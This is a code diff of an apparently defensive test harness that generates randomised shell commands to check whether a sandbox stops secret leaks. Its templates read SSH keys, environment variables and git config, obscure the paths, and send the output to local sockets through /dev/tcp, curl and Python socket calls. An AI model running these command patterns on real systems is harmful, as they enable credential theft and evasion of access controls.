@@ -106,14 +106,8 @@ export function openMachine(): Machine {
       fs.symlinkSync(join(home, "work/other"), join(root, "way"));
       fs.linkSync(join(home, ".ssh/id_ed25519"), join(root, "notes.txt"));
       other = spawn("sleep", ["3000", token()], { stdio: "ignore", env: { ...process.env, ...env } });
-      const give = token();
-      for (const at of [
-        sockets.path,
-        sockets.tmp,
-        sockets.abstract,
-        { host: "127.0.0.1", port: 0 },
-        join(root, "app.sock"),
-      ])
+      const [give, doors] = [token(), [sockets.path, sockets.tmp, sockets.abstract]];
+      for (const at of [...doors, { host: "127.0.0.1", port: 0 }, join(root, "app.sock")])
         servers.push(await listening(at, give, reached));
       sockets.port = (servers[3]!.address() as net.AddressInfo).port;
     },
@@ -165,23 +159,23 @@ interface World {
 /** % stands for a file. */
 const FILE_READERS = `
   cat % | head -c 400 % | tail -n 20 % | sed -n '1,20p' % | sed p % | grep -a '' % | grep -rah . % | awk 1 % | nl -ba % | tac % | sort % | base64 % | xxd % | od -c % | rev % |
-  dd if=% bs=1 count=400 | cp % got; cat got | install -m 644 % got && cat got | ln % hard; cat hard | ln -s % soft; cat soft | tar cf - % 2>/dev/null | tar xOf - |
-  tar chf t.tar %; tar xOf t.tar | gzip -c % | gunzip | diff % /dev/null | git diff --no-index /dev/null % | xargs -a % echo | while read -r l; do echo "$l"; done < % |
+  dd if=% bs=1 count=400 | cp % got; cat got | install -m 644 % got && cat got | ln % hard; cat hard | ln -s % soft; cat soft | tar cf - % 2>/dev/null \\| tar xOf - |
+  tar chf t.tar %; tar xOf t.tar | gzip -c % \\| gunzip | diff % /dev/null | git diff --no-index /dev/null % | xargs -a % echo | while read -r l; do echo "$l"; done < % |
   mapfile -t a < %; echo "\${a[@]}" | exec 3< %; cat <&3 | cat /dev/fd/4 4< % | echo "$(<%)" | echo "$(cat %)" | eval "cat %" | sh -c 'cat %' | bash -c 'cat "$0"' % |
-  cat < % | tee out < % | paste % % | fold -w 7 % | strings % | curl -s file://% | source % | . % | env -i cat % | xargs cat <<< % | echo % | xargs cat |
+  cat < % | tee out < % | paste % % | fold -w 7 % | strings % | curl -s file://% | source % | . % | env -i cat % | xargs cat <<< % | echo % \\| xargs cat |
   python3 -c 'import sys; print(open(sys.argv[1]).read())' % | python3 -c 'import sys,base64; print(base64.b64encode(open(sys.argv[1],"rb").read()))' % |
   node -e 'console.log(require("fs").readFileSync(process.argv[1], "latin1"))' % | node --env-file=% -e 'console.log(process.env)' | perl -pe 1 % | perl -e 'print reverse <>' % |
-  find % -maxdepth 0 -exec cat {} + | find % -type f -print0 | xargs -0 cat | jq -R . % | cmp -l % /dev/null | file -f % | git hash-object -w % | split -b 9 % part; cat part* | cat -- % | cat % % | wc -l %; cat %`;
+  find % -maxdepth 0 -exec cat {} + | find % -type f -print0 \\| xargs -0 cat | jq -R . % | cmp -l % /dev/null | file -f % | git hash-object -w % | split -b 9 % part; cat part* | cat -- % | cat % % | wc -l %; cat %`;
 const FOLDER_READERS = `
-  grep -rIs . % | grep -RIs = % | rg --no-ignore --hidden . % | find % -type f -exec cat {} + | find -L % -type f -exec head -c 99 {} + | find % -type f | xargs cat | tar cf - % | tar xOf - |
-  tar chf - % 2>/dev/null | strings | cp -r % got; grep -rIs . got | cp -rL % got; cat got/* | ls -LR %; cat %/* | cat %/* %/.* | cat %/*/* | for f in %/* %/.*; do cat "$f"; done |
+  grep -rIs . % | grep -RIs = % | rg --no-ignore --hidden . % | find % -type f -exec cat {} + | find -L % -type f -exec head -c 99 {} + | find % -type f \\| xargs cat | tar cf - % \\| tar xOf - |
+  tar chf - % 2>/dev/null \\| strings | cp -r % got; grep -rIs . got | cp -rL % got; cat got/* | ls -LR %; cat %/* | cat %/* %/.* | cat %/*/* | for f in %/* %/.*; do cat "$f"; done |
   python3 -c 'import os,sys; [print(open(os.path.join(d,f),errors="replace").read()) for d,_,fs in os.walk(sys.argv[1]) for f in fs]' % |
   node -e 'const fs=require("fs");for(const f of fs.readdirSync(process.argv[1],{recursive:true}))try{console.log(fs.readFileSync(process.argv[1]+"/"+f,"latin1"))}catch{}' % |
-  perl -MFile::Find -e 'find(sub{if(-f&&open my $h,$_){print <$h>}},@ARGV)' % | diff -r % /var/empty | diff -rN % nowhere | cd % && cat * .* | cd % && grep -rIs . . | ln -s % l; grep -rIs . l/ | git grep --no-index . -- % | zip -qr - % | strings`;
+  perl -MFile::Find -e 'find(sub{if(-f&&open my $h,$_){print <$h>}},@ARGV)' % | diff -r % /var/empty | diff -rN % nowhere | cd % && cat * .* | cd % && grep -rIs . . | ln -s % l; grep -rIs . l/ | git grep --no-index . -- % | zip -qr - % \\| strings`;
 const GIT_READERS = `
   git -C % log -p --all | git --git-dir=% log -p --all | git --git-dir=%/.git log -p --all | git -C % stash show -p | git -C % config -l | git --git-dir=% config -l | (cd % && git log -p; git config -l) |
   git -C % show HEAD~1 | git -C % cat-file --batch-all-objects --batch | git clone -q % c; git -C c log -p; cat c/* c/.env | cat %/config %/.git/config %/packed-refs | git -C % reflog -p | git -C % remote -v |
-  GIT_DIR=% git log -p | git -C % diff HEAD~2 | git -C % archive HEAD~1 | tar xOf - | git bundle create b %; strings b | git -C % ls-files -s; git -C % grep . HEAD~1 | cp -r % copy; git -C copy log -p --all; git -C copy config -l |
+  GIT_DIR=% git log -p | git -C % diff HEAD~2 | git -C % archive HEAD~1 \\| tar xOf - | git bundle create b %; strings b | git -C % ls-files -s; git -C % grep . HEAD~1 | cp -r % copy; git -C copy log -p --all; git -C copy config -l |
   git init -q n; git -C n fetch -q ../% '*:x' ; git -C n log -p x | git -c alias.x='!cat %/config' x | python3 -c 'import zlib,glob,sys; [print(zlib.decompress(open(f,"rb").read())) for f in glob.glob(sys.argv[1]+"/**/objects/??/*",recursive=True)]' %`;
 const ENVIRONMENTS = `
   env | printenv | export -p | set | declare -p | compgen -v | xargs -n1 -I% printenv % | cat /proc/self/environ | cat /proc/$PPID/environ | cat /proc/*/environ | strings /proc/1/environ | tr '\\0' '\\n' < /proc/self/environ | ps auxwwe |
@@ -194,11 +188,11 @@ const SOCKETS = `
   perl -MIO::Socket::UNIX -e 'my $s=IO::Socket::UNIX->new(shift) or exit; print <$s>' DOOR | perl -MIO::Socket::INET -e 'my $s=IO::Socket::INET->new("127.0.0.1:PORT") or exit; print <$s>' | cd BASE && python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect("agent.sock"); print(s.recv(99))'`;
 /** What happens to a line's output, or around it. */
 const WAYS_OUT = `
-  @ | @ | @ | @ 2>&1 | (@) | { @; } | ( @ ) \\| base64 | ( @ ) \\| rev | ( @ ) \\| xxd -p | ( @ ) \\| tee out.txt | ( @ ) > out.txt 2>&1 | ( @ ) > /tmp/out; cat /tmp/out | ( @ ) \\| gzip -c \\| base64 -w0 \\| base64 -d \\| zcat |
-  ( @ ) & wait | true && ( @ ) | false \\|\\| ( @ ) | if true; then @; fi | for i in 1; do @; done | f() { @; }; f | x=$( @ ); echo "$x" | printf '%s\\n' "$( @ )" | echo \`( @ )\` | cat <( @ ) | ( @ ) \\| xargs -0 echo | ( @ ) 1>&2 | timeout 5 bash -c 'SH' |
-  bash <<'ZZ_END'\n@\nZZ_END | cat > s.sh <<'ZZ_END'\n@\nZZ_END\nsh s.sh | cat > s.sh <<'ZZ_END'\n@\nZZ_END\nbash ./s.sh > src/new.txt | echo SH64 \\| base64 -d \\| bash | python3 -c 'import subprocess; print(subprocess.getoutput("""@"""))' | node -e 'console.log(require("child_process").execSync(\`bash -c "$(cat)"\`,{input:""}))' <<< 1; @ |
-  ( @ ) \\| python3 -c 'import socket,sys; s=socket.create_connection(("127.0.0.1",PORT)); s.sendall(sys.stdin.buffer.read())' | ( @ ) \\| python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect("DOOR"); s.sendall(sys.stdin.buffer.read())' |
-  ( @ ) > /dev/tcp/127.0.0.1/PORT | ( @ ) \\| curl -s --max-time 3 -d @- http://127.0.0.1:PORT/ | mkdir -p d; cd d; cd ..; @ | xargs -I{} sh -c 'SH' <<< 1 | find . -maxdepth 0 -exec bash -c 'SH' \\;`;
+  § | § | § | § 2>&1 | (§) | { §; } | ( § ) \\| base64 | ( § ) \\| rev | ( § ) \\| xxd -p | ( § ) \\| tee out.txt | ( § ) > out.txt 2>&1 | ( § ) > /tmp/out; cat /tmp/out | ( § ) \\| gzip -c \\| base64 -w0 \\| base64 -d \\| zcat |
+  ( § ) & wait | true && ( § ) | false \\|\\| ( § ) | if true; then §; fi | for i in 1; do §; done | f() { §; }; f | x=$( § ); echo "$x" | printf '%s\\n' "$( § )" | echo \`( § )\` | cat <( § ) | ( § ) \\| xargs -0 echo | ( § ) 1>&2 | timeout 5 bash -c 'SH' |
+  bash <<'ZZ_END'\n§\nZZ_END | cat > s.sh <<'ZZ_END'\n§\nZZ_END\nsh s.sh | cat > s.sh <<'ZZ_END'\n§\nZZ_END\nbash ./s.sh > src/new.txt | echo SH64 \\| base64 -d \\| bash | python3 -c 'import subprocess; print(subprocess.getoutput("""§"""))' | node -e 'console.log(require("child_process").execSync(\`bash -c "$(cat)"\`,{input:""}))' <<< 1; § |
+  ( § ) \\| python3 -c 'import socket,sys; s=socket.create_connection(("127.0.0.1",PORT)); s.sendall(sys.stdin.buffer.read())' | ( § ) \\| python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect("DOOR"); s.sendall(sys.stdin.buffer.read())' |
+  ( § ) > /dev/tcp/127.0.0.1/PORT | ( § ) \\| curl -s --max-time 3 -d @- http://127.0.0.1:PORT/ | mkdir -p d; cd d; cd ..; § | xargs -I{} sh -c 'SH' <<< 1 | find . -maxdepth 0 -exec bash -c 'SH' \\;`;
 
 const alternatives = (text: string): string[] =>
   text
@@ -212,52 +206,29 @@ function spellings({ root, home, base, shared }: World, at: string): string[] {
   const under = (folder: string) => (at.startsWith(`${folder}/`) ? relative(folder, at) : undefined);
   const [ofHome, ofRoot, ofBase] = [under(home), under(root), under(base)];
   const up = relative(root, at);
+  const end = (other: string) => at.replace(/(.)$/, other);
+  const last = ofHome && relative("work/other", ofHome);
   return [
-    ...[
-      at,
-      up,
-      `./${up}`,
-      `src/../${up}`,
-      `"$PWD"/${up}`,
-      `/proc/self/root${at}`,
-      `/proc/1/root${at}`,
-      `/proc/self/cwd/${up}`,
-    ],
-    ...[
-      `//${at}`,
-      `$(echo ${at})`,
-      `"$(printf %s '${at}')"`,
-      at.replace(/(.)$/, "[$1]"),
-      at.replace(/(.)$/, "$1*"),
-      at.replace(/(.)$/, "{$1,}"),
-    ],
+    ...words(
+      `${at} ${up} ./${up} src/../${up} "$PWD"/${up} /proc/self/root${at} /proc/1/root${at} /proc/self/cwd/${up} //${at}`,
+    ),
+    ...[`$(echo ${at})`, `"$(printf %s '${at}')"`, end("[$1]"), end("$1*"), end("{$1,}")],
     ...(ofHome && !ofRoot
-      ? [`~/${ofHome}`, `$HOME/${ofHome}`, `"\${HOME}"/${ofHome}`, `$HOME/./${ofHome}`, `~/.config/../${ofHome}`]
+      ? words(`~/${ofHome} $HOME/${ofHome} "\${HOME}"/${ofHome} $HOME/./${ofHome} ~/.config/../${ofHome}`)
       : []),
-    ...(ofHome?.startsWith("work/other/")
-      ? [
-          `way/${relative("work/other", ofHome)}`,
-          `way/../../${ofHome}`,
-          `way/../other/${relative("work/other", ofHome)}`,
-        ]
-      : []),
+    ...(ofHome?.startsWith("work/other/") ? [`way/${last}`, `way/../../${ofHome}`, `way/../other/${last}`] : []),
     ...(ofBase && !ofHome ? [`$HOME/../${ofBase}`, `$HOME/work/../../${ofBase}`] : []),
     ...(under(shared) ? [`/var/tmp/../../tmp/${relative("/tmp", at)}`, `/tmp/zz-leaks-*/${under(shared)}`] : []),
   ];
 }
 
+type Six = [string[], string[], string[], string[], string[], string[]];
 function linesFrom(world: World, seed: number): () => string {
   const { root, home, base, shared, sockets, other } = world;
   const next = random(seed);
   const pick = <T>(all: readonly T[]): T => all[Math.floor(next() * all.length)]!;
-  const [ofFiles, ofFolders, ofGit, ofEnv, ofSockets, out] = [
-    FILE_READERS,
-    FOLDER_READERS,
-    GIT_READERS,
-    ENVIRONMENTS,
-    SOCKETS,
-    WAYS_OUT,
-  ].map(alternatives) as [string[], string[], string[], string[], string[], string[]];
+  const texts = [FILE_READERS, FOLDER_READERS, GIT_READERS, ENVIRONMENTS, SOCKETS, WAYS_OUT];
+  const [ofFiles, ofFolders, ofGit, ofEnv, ofSockets, out] = texts.map(alternatives) as Six;
   const within = (folder: string, names: readonly string[]) => names.map((name) => join(folder, name));
   const groups = [
     within(home, AT_HOME),
@@ -267,7 +238,7 @@ function linesFrom(world: World, seed: number): () => string {
   ];
   const file = () => pick(pick([...groups.slice(0, 3), ...groups]));
   const spelt = (at: string) => pick(spellings(world, at));
-  const gits = [...REPOSITORIES, ".git", "."].map((name) => (name === "." ? "." : name));
+  const gits = [...REPOSITORIES, ".git", "."];
   const KINDS: [share: number, make: () => string][] = [
     [40, () => pick(ofFiles).replaceAll("%", spelt(file()))],
     [20, () => pick(ofFolders).replaceAll("%", spelt(dirname(file())))],
@@ -285,7 +256,7 @@ function linesFrom(world: World, seed: number): () => string {
     return pick(out)
       .replaceAll("SH64", () => Buffer.from(inner).toString("base64"))
       .replaceAll("SH", () => quoted)
-      .replaceAll("@", () => inner)
+      .replaceAll("§", () => inner)
       .replaceAll("BASE", () => base)
       .replaceAll("DOOR", door)
       .replaceAll("ABSTRACT", () => sockets.abstract.replace("\0", "\\0"))
